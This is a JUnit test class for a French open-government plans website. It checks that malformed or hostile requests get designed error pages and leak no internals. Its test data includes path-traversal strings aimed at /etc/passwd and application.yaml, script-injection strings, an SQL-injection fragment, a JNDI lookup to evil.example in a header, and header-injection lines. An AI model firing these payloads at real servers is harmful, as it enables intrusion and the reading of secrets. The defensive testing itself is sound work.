package org.parvis.journeys;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.parvis.ParvisTest;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Whatever is asked, the answer is a page that says what happened, a sentence that says what is allowed, or a refusal. */
@ParvisTest
class BadInputTest {
    @LocalServerPort
    int port;

    Site site;

    @BeforeEach
    void open() {
        site = new Site(port);
    }

    /** Never ours to be ashamed of, and nothing of the machinery shown. */
    private static void assertDecent(Site.Answer answer) {
        assertThat(answer.status()).as(answer.path()).isBetween(200, 499);
        assertThat(answer.text())
                .doesNotContain(
                        "Exception",
                        "org.springframework",
                        "org.parvis",
                        "java.lang",
                        "at org.",
                        "Whitelabel",
                        "Tomcat");
    }

    private static void assertDesigned(Site.Answer answer, int status) {
        assertDecent(answer);
        assertThat(answer.status()).as(answer.path()).isEqualTo(status);
        assertThat(answer.isHtml()).as(answer.path()).isTrue();
        var page = answer.html();
        assertThat(page.select("h1")).hasSize(1);
        assertThat(page.select("main a[href=/plans], main a[href=/en/plans]")).isNotEmpty();
        assertThat(page.select("meta[name=robots]").attr("content")).isEqualTo("noindex");
        PagesTest.assertProtected(answer);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/nulle-part",
                "/plans/1999-2001",
                "/plans/",
                "/plans/2021-2023/",
                "/plans/PLAN",
                "/plans/%F0%9F%92%A9",
                "/plans/2021-2023%27%20or%201=1",
                "/plans/2021-2023/actions/0",
                "/plans/2021-2023/actions/60",
                "/plans/2021-2023/actions/-1",
                "/plans/2021-2023/actions/999999",
                "/plans/2021-2023/actions/9999999999999999999",
                "/plans/2021-2023/actions/abc",
                "/plans/2021-2023/actions/1e3",
                "/plans/2021-2023/engagements/7",
                "/plans/2021-2023/inconnu",
                "/plans/1999-2001/actions",
                "/plans/1999-2001/calendrier",
                "/organisations/personne",
                "/organisations/DITP",
                "/de/plans",
                "/fr/plans",
                "/en/en/plans",
                "/enplans",
                "/en/nulle-part",
                "/error",
                "/actuator",
                "/actuator/env",
                "/static/",
                "/static/nulle-part"
            })
    void what_does_not_exist_is_a_designed_404(String path) {
        assertDesigned(site.get(path), 404);
    }

    @Test
    void a_404_speaks_the_language_of_its_address_and_offers_the_same_page_in_the_other() {
        var english = site.get("/en/plans/1999-2001");
        assertDesigned(english, 404);
        assertThat(english.html().select("html").attr("lang")).isEqualTo("en");
        assertThat(english.html().select("h1").text()).isEqualTo("There is nothing at this address");
        assertThat(english.html().select("main a[href]").eachAttr("href")).allMatch(href -> href.startsWith("/en"));
        assertThat(site.get("/plans/1999-2001").html().select("html").attr("lang"))
                .isEqualTo("fr");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "couleur=bleu | couleur | engagement, porteur, theme",
                "theme=poesie | theme | participation, transparence",
                "theme=PARTICIPATION | theme | participation, transparence",
                "avancement=demain | avancement | sans-preuve, non-commence, limite, substantiel, acheve",
                "retard=non | retard | oui",
                "retard=true | retard | oui",
                "porteur=personne | porteur | ditp",
                "engagement=7 | engagement | 1, 2, 3, 4, 5, 6",
                "engagement=0 | engagement | 1, 2, 3",
                "engagement=un | engagement | nombre entier",
                "apres=abc | apres | nombre entier",
                "apres=-1 | apres | nombre entier",
                "apres=1.5 | apres | nombre entier",
                "apres=99999999999 | apres | nombre entier",
                "apres=%D9%A3 | apres | nombre entier",
                "avant=%00 | avant | nombre entier",
                "theme=sante&theme=europe | theme | une seule fois",
                "apres=1&apres=2 | apres | une seule fois",
                "apres=3&avant=30 | avant | apres",
                "%3Cscript%3E=1 | script | engagement, porteur"
            })
    void a_filter_that_cannot_be_is_answered_by_what_is_allowed(String query, String named, String allowed) {
        var answer = site.get("/plans/2021-2023/actions?" + query);
        assertDesigned(answer, 400);
        assertThat(answer.html().select("main .lead").text()).contains(named).contains(allowed);
        assertThat(answer.html().select("main script")).isEmpty();
        assertDesigned(site.get("/en/plans/2021-2023/actions?" + query), 400);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "theme=",
                "theme=&porteur=&engagement=&avancement=",
                "apres=",
                "apres=0",
                "apres=999999",
                "avant=1",
                "avant=0",
                "avant=999999",
                "theme=%20sante%20",
                "&&&",
                "theme=sante&theme=sante",
                "retard=oui&theme=justice&engagement=6"
            })
    void a_filter_that_leaves_everything_or_nothing_is_still_a_page(String query) {
        var answer = site.get("/plans/2021-2023/actions?" + query);
        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.html().select("h1")).hasSize(1);
        for (String link : answer.html().select(".pagination a").eachAttr("href"))
            assertThat(site.get(link).status()).as(link).isEqualTo(200);
    }

    @Test
    void the_pages_of_a_list_show_every_commitment_once_forwards_and_backwards() {
        var forwards = walk("/plans/2021-2023/actions", "next");
        assertThat(forwards.stream().flatMap(BadInputTest::numbers)).hasSize(59).doesNotHaveDuplicates();
        var backwards = walk(forwards.getLast().path(), "prev");
        assertThat(backwards.stream().flatMap(BadInputTest::numbers))
                .hasSize(59)
                .doesNotHaveDuplicates();
        assertThat(backwards.getLast().html().select("a[rel=prev]")).isEmpty();
    }

    private List<Site.Answer> walk(String path, String rel) {
        var pages = new ArrayList<Site.Answer>();
        for (String next = path; !next.isEmpty(); ) {
            pages.add(site.get(next));
            next = pages.getLast().html().select("a[rel=" + rel + "]").attr("href");
        }
        return pages;
    }

    private static Stream<String> numbers(Site.Answer page) {
        return page.html().select("tbody th a").eachAttr("href").stream();
    }

    @ParameterizedTest
    @ValueSource(strings = {"=", "=x&theme=sante", "theme=%zz", "theme=%c3%28", "%ff=1"})
    void a_query_that_cannot_be_read_is_a_designed_400(String query) {
        var answer = site.sendRaw("GET /plans/2021-2023/actions?" + query + " HTTP/1.1", "Host: localhost");
        assertDesigned(answer, 400);
    }

    @Test
    void parameters_that_a_page_does_not_know_do_not_break_it() {
        for (String page : List.of("/", "/plans", "/plans/2021-2023", "/organisations/ditp"))
            assertThat(site.get(page + "?utm_source=lettre&fbclid=%00%ff%3Cscript%3E")
                            .status())
                    .as(page)
                    .isEqualTo(200);
    }

    @Test
    void what_a_visitor_typed_is_never_taken_for_markup() {
        for (String path : List.of(
                "/plans?%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
                "/nulle-part/%22%3E%3Cscript%3Ealert(1)",
                "/plans/2021-2023/actions?%22%3E%3Cscript%3E=1",
                "/en/plans/2021-2023/actions?theme=%22%3E%3Cscript%3E")) {
            var answer = site.get(path);
            assertDecent(answer);
            assertThat(answer.text()).as(path).doesNotContain("\"><script>");
        }
    }

    @ParameterizedTest
    @CsvSource({
        "/plans/2021-2023.csv?lang=xx, 400",
        "/plans/2021-2023.json?lang=xx, 400",
        "/plans.csv?lang=FR, 400",
        "/plans/2021-2023.csv?lang=fr&lang=xx, 400",
        "/plans/1999-2001.csv, 404",
        "/plans/1999-2001.json?lang=en, 404",
        "/plans/2021-2023.xml, 404",
        "/organisations.csv.exe, 404",
        "/favicon.php, 404",
        "/wp-login.php, 404"
    })
    void a_file_that_cannot_be_is_a_sentence_for_programs(String path, int status) {
        var answer = site.get(path);
        assertDecent(answer);
        assertThat(answer.status()).isEqualTo(status);
        assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
        assertThat(answer.text()).contains("\"status\":" + status).contains("\"title\":\"");
        if (status == 400) assertThat(answer.text()).contains("fr, en");
    }

    @Test
    void an_english_address_of_a_file_leads_to_its_own_and_never_elsewhere() {
        var led = site.get("/en/plans/2021-2023.csv?au=2022-03-01");
        assertThat(led.status()).isEqualTo(301);
        assertThat(led.header("Location")).isEqualTo("/plans/2021-2023.csv?au=2022-03-01&lang=en");
        assertThat(site.get(led.header("Location")).status()).isEqualTo(200);
        assertThat(site.sendRaw("GET /en//evil.example/x.csv HTTP/1.1", "Host: localhost")
                        .status())
                .isIn(400, 404);
    }

    @Test
    void a_file_has_one_address_and_says_its_failures_in_the_language_asked_for() {
        for (String file : List.of("/plans/2021-2023.csv", "/plans/2021-2023.json", "/plans.csv"))
            for (String language : List.of("", "?lang=fr", "?lang=en"))
                assertThat(site.get(file + language).status())
                        .as(file + language)
                        .isEqualTo(200);
        assertThat(site.get("/plans/1999-2001.csv?lang=en").text()).contains("There is nothing at this address");
        assertThat(site.get("/plans/1999-2001.csv").text()).contains("Il n’y a rien à cette adresse");
    }

    static Stream<String> hostilePaths() {
        return Stream.of(
                "/..;/",
                "/plans/..;/actuator/env",
                "/plans;jsessionid=1",
                "/plans/..",
                "/../../etc/passwd",
                "/static/../application.yaml",
                "/static/..%2fapplication.yaml",
                "/static/%2e%2e/application.yaml",
                "/static/%252e%252e/application.yaml",
                "/static/%2e%2e%2fapplication.yaml",
                "/static/..%5capplication.yaml",
                "/plans/%00",
                "/plans/2021-2023%00.csv",
                "/%00",
                "//",
                "//plans",
                "/plans//2021-2023",
                "//evil.example/%2f..",
                "/%2f%2fevil.example",
                "/en//evil.example",
                "/en/..",
                "/en/%2e%2e/plans",
                "/plans/%",
                "/plans/%zz",
                "/plans/%c0%ae",
                "/plans/%ff%fe",
                "/plans/{id}",
                "/plans/<script>",
                "/plans/a b",
                "/plans/\\..\\",
                "/plans/" + "a".repeat(4_000),
                "/plans/" + "a/".repeat(3_000),
                "/plans/" + "%41".repeat(5_000),
                "plans",
                "*",
                "http://evil.example/plans",
                "/plans?" + "a=b&".repeat(25_000),
                "/plans/2021-2023/actions?theme=" + "x".repeat(100_000),
                "/plans/2021-2023/actions?" + "theme=sante&".repeat(600));
    }

    @ParameterizedTest
    @MethodSource("hostilePaths")
    void a_hostile_address_is_refused_or_leads_nowhere(String path) {
        var answer = site.sendRaw("GET " + path + " HTTP/1.1", "Host: localhost");
        assertDecent(answer);
        assertThat(answer.text()).doesNotContain("root:", "datasource", "spring:");
        assertThat(answer.header("Location")).doesNotContain("evil.example");
        if (answer.status() == 200) assertThat(answer.isHtml()).isTrue();
    }

    @ParameterizedTest
    @MethodSource("hostilePaths")
    void a_hostile_address_is_no_better_received_in_english(String path) {
        assertDecent(site.sendRaw("GET /en" + path + " HTTP/1.1", "Host: localhost"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Host: evil.example",
                "Host: localhost:99999",
                "Host: a b",
                "Host: <script>",
                "Host:",
                "Host: localhost\r\nHost: evil.example",
                "Host: localhost\r\nX-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: javascript",
                "Host: localhost\r\nForwarded: host=evil.example;for=\"[::1]\"",
                "Host: localhost\r\nAccept: application/json",
                "Host: localhost\r\nAccept: nonsense",
                "Host: localhost\r\nAccept: */*;q=nope, ///",
                "Host: localhost\r\nAccept-Language: %%%,;q=9,xx-YY-ZZ-é",
                "Host: localhost\r\nAccept-Encoding: identity;q=0, *;q=0",
                "Host: localhost\r\nCookie: JSESSIONID=../../x; a=\"",
                "Host: localhost\r\nAuthorization: Basic !!!",
                "Host: localhost\r\nRange: bytes=0-1,5-2,-99999999999999999999",
                "Host: localhost\r\nIf-None-Match: \"\"\"\r\nIf-Modified-Since: yesterday",
                "Host: localhost\r\nContent-Length: -1",
                "Host: localhost\r\nContent-Length: five",
                "Host: localhost\r\nExpect: the-moon",
                "Host: localhost\r\nUpgrade: h2c\r\nConnection: Upgrade",
                "Host: localhost\r\nOrigin: https://evil.example\r\nAccess-Control-Request-Method: PUT",
                "Host: localhost\r\nX-Request-Id: ${jndi:ldap://evil.example}",
                "Host: localhost\r\nX-HTTP-Method-Override: DELETE",
                "Host: localhost\r\nBad Header: x",
                "Host: localhost\r\nno-colon-here",
                "Host: localhost\r\nUser-Agent: é\u0001"
            })
    void a_strange_header_changes_nothing_or_is_refused(String headers) {
        var answer = site.sendRaw("GET /plans/2021-2023 HTTP/1.1", headers);
        assertDecent(answer);
        assertThat(answer.text()).doesNotContain("evil.example", "javascript:");
        assertThat(answer.headers().firstValue("Access-Control-Allow-Origin")).isEmpty();
    }

    @Test
    void a_header_too_large_is_refused() {
        var answer = site.sendRaw("GET /plans HTTP/1.1", "Host: localhost", "X-Much: " + "x".repeat(100_000));
        assertDecent(answer);
        assertThat(answer.status()).isIn(400, 431);
    }

    @ParameterizedTest
    @ValueSource(strings = {"POST", "PUT", "DELETE", "PATCH"})
    void a_page_that_is_only_read_says_so_to_whoever_sends(String method) {
        for (String path : List.of("/", "/plans", "/en/plans/2021-2023/actions", "/organisations/ditp"))
            assertDesigned(site.send(method, path), 405);
        assertThat(site.send(method, "/plans").header("Allow")).contains("GET");
    }

    @ParameterizedTest
    @ValueSource(strings = {"TRACE", "TRACK", "CONNECT", "PROPFIND", "get", "G\u00c9T", "BREW"})
    void an_unknown_method_is_refused(String method) {
        var answer = site.sendRaw(method + " /plans HTTP/1.1", "Host: localhost", "Cookie: secret=1");
        assertThat(answer.status()).isIn(400, 403, 405, 501);
        assertThat(answer.text()).doesNotContain("secret=1", "Exception", "Tomcat");
    }

    @Test
    void head_is_get_without_a_body_and_options_says_what_is_allowed() {
        for (String path : List.of("/", "/en/plans", "/plans/2021-2023", "/plans/2021-2023.csv", "/nulle-part")) {
            var head = site.send("HEAD", path);
            assertThat(head.status()).as(path).isEqualTo(site.get(path).status());
            assertThat(head.body()).isEmpty();
        }
        var options = site.send("OPTIONS", "/plans");
        assertThat(options.status()).isEqualTo(200);
        assertThat(options.header("Allow")).contains("GET").doesNotContain("TRACE", "DELETE");
    }

    @Test
    void every_answer_has_an_identifier_of_its_own() {
        assertThat(Stream.of("/plans", "/plans", "/nulle-part", "/plans/2021-2023.csv")
                        .map(path -> site.get(path).header("X-Request-Id")))
                .doesNotHaveDuplicates()
                .allMatch(id -> id.length() >= 8);
    }
}
